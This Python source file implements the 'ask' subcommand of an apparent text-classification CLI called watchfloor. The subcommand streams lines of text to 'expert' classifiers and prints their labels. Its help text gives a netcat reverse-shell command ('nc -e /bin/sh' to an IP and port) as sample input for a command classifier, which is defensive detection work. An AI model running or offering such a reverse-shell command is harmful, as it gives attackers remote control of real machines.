"""``watchfloor ask``: texts in, one a line; what an expert says of each out."""

import argparse
import sys
from collections.abc import Callable, Iterator, Sequence
from pathlib import Path
from typing import TYPE_CHECKING, Any, BinaryIO

from watchfloor.base.errors import InputError, UsageError
from watchfloor.cli import outputs

if TYPE_CHECKING:
    from watchfloor.base.settings import Settings

    Records = Callable[[Sequence[str]], list[dict[str, Any]]]

NAME = "ask"
SUMMARY = "ask an expert about texts: commands, CVEs, prompts, sentences"
DESCRIPTION = """Ask an expert about texts, one a line, from files or standard input. A line can also be a JSON object
with `text` and, if you like, `id`. Answers come in the order of the lines, as soon as they are there. `auto` asks
whichever experts know the text, and says so where none does.

examples:
  echo 'nc -e /bin/sh 203.0.113.7 4444' | watchfloor ask command
  watchfloor ask command history.txt --json
  watchfloor ask auto --json < questions.jsonl
  watchfloor experts list"""

#: The word that stands for the council of all experts.
COUNCIL = "auto"
#: Lines answered at once.
_AT_ONCE = 256
_CHUNK = 1 << 16


def add_arguments(parser: argparse.ArgumentParser) -> None:
    """The expert and the texts."""
    parser.add_argument("expert", metavar="EXPERT", help=f"name of an expert, or {COUNCIL}")
    parser.add_argument("files", metavar="FILE", nargs="*", help="files of texts; default standard input")
    parser.add_argument("--json", action="store_true", help="write one JSON line a text")


def run(options: argparse.Namespace) -> int:
    """Answer line by line; exit 3 where some line could not be read."""
    from watchfloor.base.settings import from_environment

    settings = from_environment()
    records = _council(settings) if options.expert == COUNCIL else _single(settings, options.expert)
    answer = _Answer(options.expert, records, settings.max_line_bytes, as_json=options.json)
    for stream in _streams(options.files):
        for number, lines in _batches(stream, settings.max_line_bytes):
            answer.to(number, lines)
    sys.stdout.flush()
    return InputError.exit_code if answer.unread else 0


def _streams(files: list[str]) -> Iterator[BinaryIO]:
    if not files:
        yield sys.stdin.buffer
    for name in files:
        path = Path(name)
        if not path.exists():
            raise UsageError(f"there is no file {name}.")
        if path.is_dir():
            raise UsageError(f"{name} is a folder.", hint="Name a file of texts, one a line.")
        with path.open("rb") as stream:
            yield stream


def _batches(stream: BinaryIO, longest: int) -> Iterator[tuple[int, list[bytes]]]:
    """Lines as they come: whatever is there is answered at once, so that a pipe can be talked with."""
    held, number, over = b"", 1, False
    read = getattr(stream, "read1", stream.read)
    while chunk := read(_CHUNK):
        held += chunk
        if len(held) > longest and b"\n" not in held:
            held, over = held[: longest + 1], True  # the rest of an endless line is not kept
            continue
        *lines, held = held.split(b"\n")
        if over and lines:
            lines[0], over = lines[0][:0] + b"\0" * (longest + 1), False
        for start in range(0, len(lines), _AT_ONCE):
            part = lines[start : start + _AT_ONCE]
            yield number, part
            number += len(part)
    if held:
        yield number, [held]


def _council(settings: "Settings") -> "Records":
    from watchfloor.cli.expert_floor import open_floor
    from watchfloor.experts.council import consult
    from watchfloor.experts.own import OWN
    from watchfloor.experts.router import GATES

    floor = open_floor(settings)
    for name in sorted(OWN.keys() & {each for names in GATES.values() for each in names}):
        floor.attach(OWN[name]())  # the others are never sent anything
    return lambda texts: [each.record() for each in consult(floor, texts)]


def _single(settings: "Settings", name: str) -> "Records":
    from watchfloor.cli.expert_floor import open_expert

    ask = open_expert(settings, name)
    return lambda texts: [each.record() for each in ask(texts)]


class _Answer:
    """Writes an answer a line; ``unread`` counts lines that could not be read."""

    def __init__(self, expert: str, records: "Records", longest: int, *, as_json: bool) -> None:
        from watchfloor.cli.terminal import Terminal

        self._expert, self._records, self._longest, self._as_json = expert, records, longest, as_json
        self._terminal = Terminal(sys.stdout)
        self.unread = 0

    def to(self, number: int, lines: list[bytes]) -> None:
        """Answer some lines, the first of which has this number."""
        asked = [_question(line, number + place, self._longest) for place, line in enumerate(lines)]
        answers = iter(self._records([text for _, text, wrong in asked if not wrong]))
        for identifier, text, wrong in asked:
            if wrong:
                self.unread += 1
                record: dict[str, Any] = {"expert": self._expert, "labels": [], "abstained": True, "why": wrong}
            else:
                record = next(answers)
            if self._as_json:
                sys.stdout.buffer.write(outputs.json_line({"id": identifier} | record))
            else:
                self._terminal.line(_said(record, text))
        sys.stdout.flush()
        sys.stdout.buffer.flush()


def _question(line: bytes, number: int, longest: int) -> tuple[Any, str, str]:
    """Id, text, and what is wrong with the line."""
    import orjson

    if len(line) > longest:
        return number, "", f"the line is longer than {longest:,} bytes"
    stripped = line.strip()
    if stripped.startswith(b"{") and stripped.endswith(b"}"):
        try:
            record = orjson.loads(stripped)
        except ValueError:
            record = None  # a text that begins and ends with a brace
        if isinstance(record, dict) and ("text" in record or "id" in record):
            text = record.get("text")
            if not isinstance(text, str):
                return record.get("id", number), "", "its text is missing or no text"
            return record.get("id", number), text, ""
    return number, line.rstrip(b"\r").decode("utf-8", "replace"), ""


def _said(record: dict[str, Any], text: str) -> str:
    """One line for a person."""
    from watchfloor.film.story import clip

    said = "  ".join(f"{each['label']} {each['score']:.2f}" for each in record["labels"][:3])
    if "value" in record:
        said = f"{record['value']:.1f}  {said}"
    if record["abstained"]:
        said = f"no answer: {record['why']}" + (f" ({said})" if said else "")
    if record.get("lead"):
        said = f"{record['lead']}  [{', '.join(each['expert'] for each in record['answers'])}]"
    return f"{said:<44}  {clip(text, 100)}"
